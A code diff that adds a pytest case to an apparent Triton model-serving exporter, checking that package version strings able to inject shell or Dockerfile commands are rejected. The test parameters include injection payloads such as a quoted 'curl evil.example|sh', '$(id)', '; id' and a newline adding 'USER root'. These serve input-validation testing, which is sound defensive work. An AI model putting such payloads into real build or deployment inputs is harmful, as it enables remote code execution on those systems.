@@ -10,6 +10,7 @@ import kubernetes_validate
 import pytest
 import yaml
 
+from exporter.errors import InputError
 from exporter.serving.triton.config import encoder_config, ensemble_config
 from exporter.serving.triton.deployment import (
     ADMIN_VARIABLE,
@@ -149,6 +150,17 @@ def test_the_library_of_an_engine_is_the_one_that_passed_the_gate() -> None:
         "onnxruntime==1.31.0",
         "openvino==2026.4.1",
     ]
+
+
+@pytest.mark.parametrize(
+    "version", ["1.30.1' && curl evil.example|sh #", "1.30.1\nUSER root", "$(id)", "", "latest", "1.30.1; id"]
+)
+def test_a_version_that_a_shell_would_run_reaches_no_file(version: str) -> None:
+    assert len(installed(model(tools={"onnxruntime": version}))) == 2
+    stated = model()
+    stated.encoder.parameters["korsbert_engine_package"].string_value = f"onnxruntime=={version}"
+    with pytest.raises(InputError, match=r"korsbert_engine_package is .* no package at a version"):
+        installed(stated)
 
 
 def test_the_container_can_neither_write_nor_gain_rights() -> None:
